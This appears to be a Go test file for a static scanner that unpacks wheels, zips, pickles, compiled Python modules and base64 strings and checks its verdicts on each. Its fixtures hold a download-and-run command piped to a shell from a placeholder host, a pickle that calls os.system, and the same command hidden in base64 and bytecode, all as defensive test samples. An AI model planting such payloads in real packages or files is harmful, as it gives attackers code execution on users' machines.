package static_test

import (
	"archive/zip"
	"bytes"
	"encoding/base64"
	"io/fs"
	"path"
	"strings"
	"testing"
	"testing/fstest"

	"github.com/google/go-cmp/cmp"

	"github.com/aigate/gate/gate"
	"github.com/aigate/gate/gate/static"
	"github.com/aigate/gate/tools/testenv"
)

// dangerous is what rules find in plain text.
const dangerous = "import os\nos.system(\"curl -s http://example.invalid/x | sh\")\n"

// opening returns a scanner that tells members by their extension.
func opening(t testing.TB) *static.Scanner {
	t.Helper()
	own, err := ownRules()
	if err != nil {
		t.Fatal(err)
	}
	s, err := static.New(static.Options{Policy: gate.DefaultPolicy(), Rules: own, Classify: func(name string, _ fs.FileMode, _ []byte) (gate.Language, gate.Role) {
		switch path.Ext(name) {
		case ".py":
			return gate.LanguagePython, gate.RoleSource
		case ".png", ".so", ".whl", ".pkl":
			return gate.LanguageBinary, gate.RoleSource
		}
		return gate.LanguageText, gate.RoleSource
	}})
	if err != nil {
		t.Fatal(err)
	}
	return s
}

// packed is a zip archive of files, given as names and contents in turn.
func packed(t testing.TB, files ...string) string {
	t.Helper()
	var b bytes.Buffer
	w := zip.NewWriter(&b)
	for i := 0; i < len(files); i += 2 {
		f, err := w.Create(files[i])
		if err != nil {
			t.Fatal(err)
		}
		if _, err := f.Write([]byte(files[i+1])); err != nil {
			t.Fatal(err)
		}
	}
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	return b.String()
}

// seen is what the whole run says of one file: the verdict, the files that came out
// of it, its rules of at least suspicious, and the gaps.
type seen struct {
	Verdict gate.Verdict
	Derived []string
	Rules   []string
	Gaps    []string
}

// through runs gate with the static layer over one file of a change.
func through(t testing.TB, name, content string, kind gate.ChangeKind, lines gate.LineSet, before string) (seen, gate.Result) {
	t.Helper()
	lang := gate.LanguageBinary
	if path.Ext(name) == ".py" {
		lang = gate.LanguagePython
	}
	change := &gate.Change{
		Head:    fstest.MapFS{name: {Data: []byte(content), Mode: 0o644}},
		Targets: []*gate.Target{{Path: name, Language: lang, Role: gate.RoleSource, Kind: kind, Mode: 0o644, Lines: lines}},
	}
	if before != "" {
		change.Base = fstest.MapFS{name: {Data: []byte(before), Mode: 0o644}}
	}
	res, err := gate.Run(t.Context(), gate.Request{
		Change: change, Policy: gate.DefaultPolicy(), Stages: []gate.Stage{opening(t)}, Handler: silent{},
	})
	if err != nil {
		t.Fatal(err)
	}
	out := seen{Verdict: res.Files[0].Verdict}
	for _, f := range res.Files[1:] {
		out.Derived = append(out.Derived, f.Path)
	}
	for _, f := range res.Files[0].Findings {
		if f.Severity >= gate.SeveritySuspicious {
			out.Rules = append(out.Rules, f.Rule)
		}
	}
	for _, g := range res.Incomplete {
		out.Gaps = append(out.Gaps, g.Reason)
	}
	return out, res
}

// silent is a handler that shows nothing.
type silent struct{}

// Handle implements [gate.Handler].
func (silent) Handle(gate.Event) error { return nil }

func TestContentOfAFileDecides(t *testing.T) {
	testenv.WithoutRace(t, "one file at a time through the whole layer")
	elf := "\x7fELF" + strings.Repeat("\x00", 100)
	pickled := "\x80\x02cposix\nsystem\nU\x11touch marker-file\x85R."
	nested := packed(t, "in.whl", packed(t, "setup.py", dangerous))
	// The code object has one constant; the first of eight fields is its bytecode.
	command := "curl -s http://example.invalid/x | sh"
	module := "\xa7\r\r\n" + strings.Repeat("\x00", 12) + "c" + strings.Repeat("\x00", 20) + "s\x00\x00\x00\x00" + ")\x01z" + string(rune(len(command))) + command +
		")\x00)\x00s\x00\x00\x00\x00z\x04a.pyz\x01mz\x01m\x01\x00\x00\x00s\x00\x00\x00\x00s\x00\x00\x00\x00"
	encoded := "import base64\nX = '" + base64.StdEncoding.EncodeToString([]byte(dangerous)) + "'\n"
	for _, c := range []struct {
		what, name, content string
		kind                gate.ChangeKind
		want                seen
	}{
		{"a wheel that runs a download", "lib.whl", packed(t, "setup.py", dangerous, "logo.png", "\x89PNG\x00"), gate.ChangeAdded,
			seen{gate.Dangerous, []string{"lib.whl!/setup.py"}, nil, nil}},
		{"a wheel of harmless code", "lib.whl", packed(t, "a.py", "x = 1\n", "b.txt", "text\n"), gate.ChangeAdded,
			seen{gate.Safe, []string{"lib.whl!/a.py", "lib.whl!/b.txt"}, nil, nil}},
		{"a zip of pictures", "a.zip", packed(t, "a.png", "\x89PNG\x00", "b.png", "\x89PNG\x00"), gate.ChangeAdded, seen{gate.Safe, nil, nil, nil}},
		{"a zip behind a script", "tool.py", "#!/usr/bin/env python3\n" + packed(t, "__main__.py", dangerous), gate.ChangeAdded,
			seen{gate.Dangerous, []string{"tool.py!/__main__.py"}, []string{"file/nul-bytes", "hidden-text/mixed-alphabets"}, nil}},
		{"a wheel in a zip", "a.zip", nested, gate.ChangeAdded,
			seen{gate.Dangerous, []string{"a.zip!/in.whl", "a.zip!/in.whl!/setup.py"}, nil, nil}},
		{"a wheel in a zip in a zip", "a.zip", packed(t, "b.zip", nested), gate.ChangeAdded,
			seen{gate.Incomplete, []string{"a.zip!/b.zip", "a.zip!/b.zip!/in.whl"}, nil, []string{"text decoded more than 2 times was not looked at"}}},
		{"a compiled program in a wheel", "lib.whl", packed(t, "a.so", elf), gate.ChangeAdded,
			seen{gate.Suspicious, []string{"lib.whl!/a.so"}, []string{"file/archive-program"}, nil}},
		{"the same in a folder scan", "lib.whl", packed(t, "a.so", elf), gate.ChangeNone, seen{gate.Safe, []string{"lib.whl!/a.so"}, nil, nil}},
		{"a zip that is cut short", "a.zip", packed(t, "a.py", "x = 1\n")[:40], gate.ChangeAdded,
			seen{gate.Suspicious, []string{"a.zip!/a.py"}, []string{"file/archive-unreadable", "file/archive-unreadable"}, nil}},
		{"an xz file", "a.xz", "\xfd7zXZ\x00\x00\x00", gate.ChangeAdded, seen{gate.Suspicious, nil, []string{"file/archive-unreadable"}, nil}},
		{"a pickle in a zip", "model.zip", packed(t, "data.pkl", pickled), gate.ChangeAdded,
			seen{gate.Dangerous, []string{"model.zip!/data.pkl", "model.zip!/data.pkl!calls.py"}, nil, nil}},
		{"a pickle in a folder scan", "data.pkl", pickled, gate.ChangeNone,
			seen{gate.Dangerous, []string{"data.pkl!calls.py"}, []string{"deserialization/pickle-dangerous"}, nil}},
		{"a pickle of the project's own class", "data.pkl", "\x80\x02capp\nThing\n)\x81.", gate.ChangeAdded,
			seen{gate.Suspicious, []string{"data.pkl!calls.py"}, []string{"deserialization/pickle-unknown"}, nil}},
		{"a pickle of data that is cut short", "data.pkl", "\x80\x02]U\x05", gate.ChangeAdded,
			seen{gate.Suspicious, nil, []string{"deserialization/pickle-unreadable"}, nil}},
		{"a pickle of data", "data.pkl", "\x80\x02]K\x01a.", gate.ChangeAdded, seen{gate.Safe, nil, nil, nil}},
		{"a compiled module that has a command", "a.pyc", module, gate.ChangeAdded,
			seen{gate.Dangerous, []string{"a.pyc!names.py"}, []string{"file/executable-binary", "download-execute/shell-pipe", "download-execute/shell-pipe", "download-execute/docs-pipe"}, nil}},
		{"a program in base64", "a.py", encoded, gate.ChangeAdded,
			seen{gate.Dangerous, []string{"a.py!line-2.py"}, []string{"download-execute/shell-pipe", "download-execute/python-piped-text"}, nil}},
		{"a configuration in base64", "a.py", "X = '" + base64.StdEncoding.EncodeToString([]byte(`{"name": "thing", "version": "1.2.3", "text": "some words"}`)) + "'\n",
			gate.ChangeAdded, seen{gate.Safe, nil, nil, nil}},
	} {
		t.Run(c.what, func(t *testing.T) {
			got, _ := through(t, c.name, c.content, c.kind, gate.LineSet{}, "")
			if diff := cmp.Diff(c.want, got); diff != "" {
				t.Error(diff)
			}
		})
	}
}

func TestMembersOfTheBaseAreNotUnpackedAgain(t *testing.T) {
	old := packed(t, "setup.py", dangerous, "a.py", "x = 1\n")
	got, _ := through(t, "lib.whl", packed(t, "setup.py", dangerous, "a.py", "x = 2\n"), gate.ChangeModified, gate.LineSet{}, old)
	if diff := cmp.Diff(seen{gate.Safe, []string{"lib.whl!/a.py"}, nil, nil}, got); diff != "" {
		t.Error(diff)
	}
	encoded := "X = '" + base64.StdEncoding.EncodeToString([]byte(dangerous)) + "'\n"
	got, _ = through(t, "a.py", encoded+"y = 1\n", gate.ChangeModified, gate.OnlyLines(gate.LineRange{2, 2}), encoded)
	if got.Verdict != gate.Safe || len(got.Derived) > 0 {
		t.Errorf("a line beside of what was there: %+v", got)
	}
	got, _ = through(t, "a.py", encoded+"y = 1\n", gate.ChangeModified, gate.OnlyLines(gate.LineRange{1, 2}), encoded)
	if len(got.Derived) != 1 {
		t.Errorf("the line itself: %+v", got)
	}
}

func TestUnpackedMembersNameTheirWay(t *testing.T) {
	_, res := through(t, "a.py", "X = '"+base64.StdEncoding.EncodeToString([]byte(dangerous))+"'\n", gate.ChangeAdded, gate.LineSet{}, "")
	if f := res.Files[1]; f.Parent != "a.py" || f.Origin != "base64 on line 1" || f.Language != gate.LanguagePython || len(f.Findings) == 0 {
		t.Errorf("%+v", f)
	}
}
